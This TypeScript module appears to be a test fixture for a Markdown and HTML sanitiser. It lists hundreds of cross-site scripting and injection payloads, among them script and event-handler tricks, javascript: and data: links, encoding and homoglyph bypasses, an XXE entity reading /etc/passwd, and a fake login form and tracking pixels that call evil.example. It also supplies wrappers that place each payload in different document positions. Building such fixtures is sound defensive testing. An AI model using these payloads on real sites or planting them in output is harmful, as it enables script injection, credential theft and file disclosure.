/** Text that tries to become script, a request, a form or a frame around the page: one a line of the lists. */
const HTML = String.raw`
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/src="data:,alert(1)"></script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script>alert(1)//
</script><script>alert(1)</script>
<script type=module>import "https://evil.example"</script>
<script
>alert(1)</script
>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<img src="x" onerror='alert(1)' alt=>
<img/src=x/onerror=alert(1)>
<img src=https://evil.example/pixel.gif>
<img srcset="https://evil.example/a 1x, https://evil.example/b 2x">
<image href=x onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">
<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe/onload=alert(1)>
<frameset onload=alert(1)><frame src=x></frameset>
<object data=javascript:alert(1)></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src=javascript:alert(1)>
<embed src="https://evil.example/x.swf">
<applet code=x></applet>
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=prefetch href=https://evil.example>
<link rel=dns-prefetch href=//evil.example>
<meta http-equiv=refresh content="0;url=https://evil.example">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<base href=https://evil.example/>
<form action=https://evil.example><input name=password><button>Log in</button></form>
<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>
<input autofocus onfocus=alert(1)>
<input type=image src=https://evil.example/x>
<isindex type=image src=1 onerror=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<button onclick=alert(1)>x</button>
<video src=x onerror=alert(1)>
<video poster=https://evil.example/x>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<audio src=https://evil.example/x autoplay>
<track src=https://evil.example/x>
<details open ontoggle=alert(1)>
<details ontoggle=alert(1) open><summary>x</summary></details>
<summary onclick=alert(1)>x</summary>
<marquee onstart=alert(1)>
<body onload=alert(1)>
<body background=https://evil.example/x>
<html manifest=https://evil.example/x>
<table background=https://evil.example/x><td background=https://evil.example/y>
<div style="background:url(https://evil.example/x)">x</div>
<div style="position:fixed;inset:0;background:red">Log in again</div>
<div style=width:expression(alert(1))>x</div>
<style>*{background:url(https://evil.example/x)}</style>
<style>@import "https://evil.example/x.css";</style>
<style><img src="</style><img src=x onerror=alert(1)>">
<div id=location>x</div>
<a id=defaultView><a id=defaultView name=x>
<form id=attributes><input name=attributes></form>
<img name=getElementById>
<div class="toast" role=alert>Session lost</div>
<a href=javascript:alert(1)>x</a>
<a href="https://evil.example" ping="https://evil.example/p">x</a>
<a href="#" onclick="alert(1)">x</a>
<a target=_self href=https://evil.example>x</a>
<area href=javascript:alert(1)>
<p onmouseover=alert(1)>x</p>
<b onmouseover=alert(1)>x</b>
<kbd onclick=alert(1)>x</kbd>
<mark style="color:red" onmouseenter=alert(1)>x</mark>
<sub id=x>1</sub><sup class=y>2</sup>
<br onload=alert(1)>
<br/onclick=alert(1)/>
<xss onpointerenter=alert(1) style=display:block>x</xss>
<x-element onclick=alert(1)>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img src=x onerror=alert(1)></noembed>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext><img src=x onerror=alert(1)>
<listing><img src=x onerror=alert(1)></listing>
<title><img src=x onerror=alert(1)></title>
<portal src=https://evil.example></portal>
<dialog open>Log in</dialog>
<slot name=x></slot>
<!--><img src=x onerror=alert(1)>-->
<!--><script>alert(1)</script-->
<!-- --!><img src=x onerror=alert(1)>-->
<![CDATA[><img src=x onerror=alert(1)>]]>
<?xml-stylesheet href="javascript:alert(1)"?><img src=x onerror=alert(1)>
<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>
</p></div></article></main><script>alert(1)</script>
</div></div></div><div style="position:fixed">x</div>
</code></pre></figure><img src=x onerror=alert(1)>
</details></summary></kbd></sub></li></ul></blockquote>
<<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<img """><script>alert(1)</script>">
<img src='a>' onerror=alert(1)>
<a href="x'>" onclick=alert(1)>
"><img src=x onerror=alert(1)>
'><svg/onload=alert(1)>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;img src=x onerror=alert(1)&#x3e;
&amp;lt;script&amp;gt;alert(1)
\<script>alert(1)\</script>
<sub><script>alert(1)</script></sub>
<kbd><img src=x onerror=alert(1)></kbd>
<details><summary><iframe src=javascript:alert(1)></summary></details>
<mark><sub></mark><img src=x onerror=alert(1)></sub>
<table><tr><td></table><img src=x onerror=alert(1)>
＜script＞alert(1)＜/script＞
<ſcript>alert(1)</ſcript>
<ıframe src=javascript:alert(1)>
{{constructor.constructor('alert(1)')()}}
${"${alert(1)}"} #{alert(1)} <%= alert(1) %>
`;

const MARKDOWN = String.raw`
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript&colon;alert(1))
[x](javascript&#58;alert(1))
[x](&#106;avascript:alert(1))
[x](&#x6A;&#x61;vascript:alert(1))
[x](java&Tab;script:alert(1))
[x](java&NewLine;script:alert(1))
[x](java&#10;script:alert(1))
[x](<java	script:alert(1)>)
[x](<	javascript:alert(1)>)
[x](< javascript:alert(1)>)
[x](&#1;javascript:alert(1))
[x](javascript:alert(1))
[x](javascript://%0aalert(1))
[x](javascript:alert(1) "title")
[x](javascript\:alert(1))
[x](javascript%3Aalert(1))
[x](vbscript:msgbox(1))
[x](data:text/html,<script>alert(1)</script>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/svg+xml,<svg onload=alert(1)>)
[x](blob:https://example.com/1)
[x](file:///etc/passwd)
[x](about:blank)
[x](view-source:https://example.com)
[x](intent://x#Intent;scheme=x;end)
[x](ws://evil.example)
[x](tel:123)
[x](chrome://settings)
[x](feed:javascript:alert(1))
[x](jar:javascript:alert(1)!/)
[x](//evil.example)
[x](/\evil.example)
[x](\\evil.example\share)
[x](https:evil.example)
[x](https:/evil.example)
[x](https:\\evil.example)
[x](http://user:password@evil.example)
[x](https://bank.example@evil.example)
[x](https://evil.example" onclick="alert(1))
[x](https://evil.example "t" onclick="alert(1)")
[x](https://evil.example 'x"><img src=x onerror=alert(1)>')
[x](https://evil.example/"onmouseover="alert(1))
[x](https://evil.example/<script>alert(1)</script>)
[x](<https://evil.example/"><img src=x onerror=alert(1)>>)
[x](https://еxаmple.com)
[x](https://xn--e1awd7f.com "https://example.com")
[x](https://evil.example/\u202Egnp.exe)
[<img src=x onerror=alert(1)>](https://example.com)
[x<script>alert(1)</script>](https://example.com)
[a [b](javascript:alert(1)) c](https://example.com)
[![x](javascript:alert(1))](javascript:alert(1))
[x][y]
![x](https://evil.example/pixel.gif)
![x](javascript:alert(1))
![x](data:image/svg+xml,<svg onload=alert(1)>)
![" onerror="alert(1)](x)
!["><script>alert(1)</script>](https://evil.example/x)
![x](x "title" onerror=alert(1))
![<b>x</b>](https://evil.example/"onload="alert(1))
![x][y]
<javascript:alert(1)>
<JAVASCRIPT:alert(1)>
<data:text/html,x>
<vbscript:x>
<https://evil.example/" onclick="alert(1)>
<me@example.com"onclick="alert(1)>
javascript:alert(1)
www.evil.example/"onclick="alert(1)
https://evil.example/<script>alert(1)</script>
https://evil.example/'onclick='alert(1)
https://evil.example@evil.example/
mailto:"><script>alert(1)</script>@example.com
[x](mailto:me@example.com?subject="><script>alert(1)</script>)
*<img src=x onerror=alert(1)>*
**[x](javascript:alert(1))**
~~<svg onload=alert(1)>~~
# <img src=x onerror=alert(1)>
> <img src=x onerror=alert(1)>
- <img src=x onerror=alert(1)>
- [ ] <input onfocus=alert(1) autofocus>
1. <script>alert(1)</script>
    <script>alert(1)</script>
[^1<img src=x onerror=alert(1)>]
[^x]: <img src=x onerror=alert(1)>
[^"onclick="alert(1)]: x
[^__proto__] [^constructor] [__proto__] [constructor][toString]
~~~<script>alert(1)</script>
~~~" onclick="alert(1)
~~~js" onclick="alert(1)" x="
~~~html class=x id=y
~~~../../x
~~~__proto__
~~~constructor
| <img src=x onerror=alert(1)> |
x | <script>alert(1)</script>
$<img src=x onerror=alert(1)>$
$$\href{javascript:alert(1)}{x}$$
$$<script>alert(1)</script>$$
`;

const BLOCKS = [
  "```html\n<script>alert(1)</script>\n```",
  "```\n</code></pre><script>alert(1)</script>\n```",
  "```<img src=x onerror=alert(1)>\nx\n```",
  "``` js onclick=alert(1)\nlet a = '</span><script>alert(1)</script>';\n```",
  "```html\n<a href=\"javascript:alert(1)\" onclick='alert(1)'>&lt;\n```",
  '```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>] --> B; click B "javascript:alert(1)"\n```',
  "`</code><script>alert(1)</script>`",
  "``<img src=x onerror=alert(1)>``",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |\n| [x](javascript:alert(1)) |\n",
  '| <script> |\n|:-:" onclick=alert(1)|\n| x |\n',
  "[x]: javascript:alert(1)\n\n[x] ![x] [y][x]\n",
  "[x]: https://evil.example 'a\" onclick=\"alert(1)'\n\n[x]\n",
  "[x]: <data:text/html,<script>alert(1)</script>>\n\n[x]\n",
  "[y]: https://evil.example/x\n\n![y] [![y]][y]\n",
  "Text[^1]\n\n[^1]: <script>alert(1)</script>\n    <img src=x onerror=alert(1)>\n",
  "<details>\n<summary><img src=x onerror=alert(1)></summary>\n\n<script>alert(1)</script>\n\n</details>\n",
  "<details>\n<summary>\n\n</details>\n</div>\n<iframe src=javascript:alert(1)>\n",
  "<div>\n\n<script>alert(1)</script>\n\n</div>\n",
  "<div\nonclick=alert(1)\n>x\n",
  '<a\n href="java\nscript:alert(1)">x</a>\n',
  "<!--\n\n--><img src=x onerror=alert(1)>\n",
  "<pre><code>\n</code></pre><script>alert(1)</script>\n",
  "<style>\n\n</style><img src=x onerror=alert(1)>\n",
  "- a\n\n  <img src=x onerror=alert(1)>\n\n  ```html\n  <script>alert(1)</script>\n  ```\n",
  "> > > <svg onload=alert(1)>\n> > lazy <img src=x onerror=alert(1)>\n",
  "a\n===<script>\n<h1 id=x>y</h1>\n---\n",
  "<scr\0ipt>alert(1)</scr\0ipt>",
  "<img src=x on\0error=alert(1)>",
  "[x](java\0script:alert(1))",
  "[x](java\rscript:alert(1))",
  "[x](\u0001javascript:alert(1)) [x](\u00a0javascript:alert(1)) [x](\ufeffjavascript:alert(1))",
  "<\ud800script>alert(1)</\udc00script>",
  "\u202e<img src=x onerror=alert(1)>\u2066",
  "<p\u2028onclick=alert(1)>x</p>",
];

const lines = (list: string) =>
  list.split("\n").filter((line) => line !== "").map((line) => line.replace(/^~~~/, "```"));

export const PAYLOADS: string[] = [...lines(HTML), ...lines(MARKDOWN), ...BLOCKS];

/** Places in a document where a payload may stand. */
export const PLACES: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `text before ${payload} and after\n`,
  (payload) => `- item\n- ${payload.replaceAll("\n", "\n  ")}\n`,
  (payload) => `> ${payload.replaceAll("\n", "\n> ")}\n`,
  (payload) => `| a | b |\n|---|---|\n| ${payload.replace(/\n[^]*/, "")} | x |\n`,
  (payload) => `**${payload}** <sub>${payload}</sub>\n`,
  (payload) => `[${payload}](https://example.com "${payload}")\n`,
  (payload) => `<details>\n<summary>${payload}</summary>\n\n${payload}\n\n</details>\n`,
  (payload) => `Note[^1]\n\n[^1]: ${payload}\n\n[y]: https://example.com/y "${payload}"\n`,
];
